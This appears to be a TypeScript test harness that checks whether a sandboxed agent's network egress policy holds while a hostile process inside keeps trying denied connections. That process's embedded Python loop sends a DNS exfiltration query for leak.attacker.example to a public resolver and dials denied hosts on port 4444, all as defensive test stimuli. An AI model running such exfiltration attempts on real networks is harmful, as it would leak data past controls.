import assert from 'node:assert/strict';
import { type Capture, type Lab, startLab } from '@cofferdam/testkit/lab';
import { agentPolicy } from './agent-policy.ts';
import { type Attacker, type ContainedAttacker, containedAttacker, eventually, freeAttacker } from './attacker.ts';

/** Runs under attack: a hostile process in the agent's network tries all the time what the policy denies. */

export const policy = agentPolicy({
  to: { echo: ['{ cidr: 104.131.20.7/32 }', '{ cidr: "2604:a880::7/128" }'] },
  web: { permitted: ['example.com', 'registry.example'] },
  rules: [
    'web: [permitted], protocol: tcp, ports: [80, 443]',
    'web: [permitted], protocol: tcp, ports: [9001], tls: required',
    'to: [echo], protocol: any',
  ],
});

/** Keeps on trying what the policy denies, in its own thread. */
export const harass = `
def harass():
    n = 0
    while harassing[0]:
        n += 1
        for to in ('45.83.64.10', '2a0e:1d40::10'):
            try: socket.socket(family_of(to), socket.SOCK_DGRAM).sendto(b'denied %d' % n, (to, 4444))
            except OSError: pass
            s = socket.socket(family_of(to), socket.SOCK_STREAM)
            s.setblocking(False)
            try: s.connect((to, 443))
            except OSError: pass
            tried.append(s)
            if len(tried) > 40: tried.pop(0).close()
        try:
            query = b'\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0' + b'\\x04leak\\x08attacker\\x07example\\0\\0\\x01\\0\\x01'
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, ('8.8.8.8', 53))
        except OSError: pass
        rounds[0] = n
        time.sleep(0.03)
tried, rounds, harassing = [], [0], [True]
threading.Thread(target=harass, daemon=True).start()
`;
/** A pending flow to a server that pushes, and a permitted one that echoes: what comes of them later. */
const flows = `
echo = socket.create_connection(('104.131.20.7', 5000), 3)
echo.sendall(b'one')
assert echo.recv(10) == b'one'
pusher = socket.create_connection((args['pending'], 9001), 3)
pusher.sendall(b'\\x16')
datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
datagrams.connect(('104.131.20.7', 9201))
datagrams.settimeout(2)
datagrams.send(b'start')
assert datagrams.recv(10) == b'push'
`;
const push = `
def push():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(('104.131.20.7', 9201))
    clients = set()
    s.settimeout(0.05)
    while True:
        try: clients.add(s.recvfrom(100)[1])
        except OSError: pass
        for to in clients:
            try: s.sendto(b'push', to)
            except OSError: pass
threading.Thread(target=push, daemon=True).start()
def speak(sock):
    try:
        while True:
            time.sleep(0.1)
            sock.sendall(b'pushed to a pending flow')
    except OSError: pass
def pushing():
    listener = socket.create_server((args['address'], 9001))
    while True:
        sock, _ = listener.accept()
        sock.recv(1)
        threading.Thread(target=speak, args=(sock,), daemon=True).start()
threading.Thread(target=pushing, daemon=True).start()
`;

export interface Siege {
  readonly agent: ContainedAttacker;
  /** Root in the agent's network, outside the sandbox: it outlives the command. */
  readonly survivor: Attacker;
  /** Fails where anything has arrived that the policy denies, after the hostile process had its time. */
  holds(): Promise<void>;
}

export interface Battlefield {
  readonly lab: Lab;
  readonly free: Attacker;
  /** A run and its besieger; fails where the siege has succeeded before the work begins. */
  besiege(work: (siege: Siege) => Promise<void>): Promise<void>;
  /** On the wire between host and internet: what no rule permits. */
  denied(): Promise<readonly string[]>;
}

export const startBattlefield = async (): Promise<Battlefield> => {
  const lab = await startLab({ daemons: ['resolver', 'resolver2'] });
  const free = await freeAttacker(lab, 'host');
  const server = await freeAttacker(lab, 'internet');
  await server.run(push, { address: lab.address('example.com') });
  const capture: Capture = await lab.capture();
  const besiege = async (work: (siege: Siege) => Promise<void>): Promise<void> => {
    const agent = await containedAttacker(lab, { policy, options: ['--quiet'] });
    try {
      const pending = await agent.run<string>(`result = socket.gethostbyname('example.com')`);
      const survivor = await agent.rawAttacker();
      const since = await lab.mark();
      const already = (await denied()).length;
      await survivor.run(flows, { pending });
      await survivor.run(harass);
      const rounds = () => survivor.run<number>('result = rounds[0]');
      const holds = async (): Promise<void> => {
        const from = await rounds();
        await eventually('a dozen more rounds of attempts', async () => (await rounds()) > from + 12);
        const arrivals = await lab.arrivals({ since });
        const wrong = arrivals.filter(
          ({ server, kind }) =>
            server === 'attacker' || server === 'public-dns' || (kind === 'query' && server !== 'resolver'),
        );
        assert.deepEqual(wrong, []);
        assert.deepEqual((await denied()).slice(already), [], 'on the wire');
        const pushed = await survivor.run<Record<string, string>>(`result = fate(pusher, 0.3)`);
        assert.equal(pushed.data, '', 'nothing reached the client of a pending flow');
      };
      await holds();
      await work({ agent, survivor, holds });
    } finally {
      await agent.stop();
    }
  };
  /** On the wire between host and internet: what no rule permits. */
  const denied = (): Promise<readonly string[]> =>
    capture.packets(
      'dst host 45.83.64.10 or dst host 2a0e:1d40::10 or dst host 8.8.8.8 or src net 198.18.0.0/15 or src net fdc0::/16',
    );

  return { lab, free, besiege, denied };
};

/** Whether the permitted flow of the besieger still carries. */
export const speaks = (who: Attacker) =>
  who.run<boolean>(`
    try:
        echo.settimeout(1)
        echo.sendall(b'two')
        result = echo.recv(10) == b'two'
    except OSError: result = False
  `);
/** `open`, or why a new connection is not. */
export const dials = (who: Attacker, to: string, port: number) =>
  who.run<string>(
    `
    began = time.monotonic()
    try:
        s = socket.create_connection((args['to'], args['port']), 3)
        result = 'open'
        s.close()
    except OSError as e: result = errno.errorcode.get(e.errno, 'silent')
    `,
    { to, port },
  );
/** Whether a server's datagrams still reach the besieger. */
export const datagramsCome = (who: Attacker) =>
  who.run<boolean>(`
    datagrams.setblocking(False)
    try:
        while True: datagrams.recv(10)
    except OSError: pass
    datagrams.settimeout(0.5)
    try: result = datagrams.recv(10) == b'push'
    except OSError: result = False
  `);
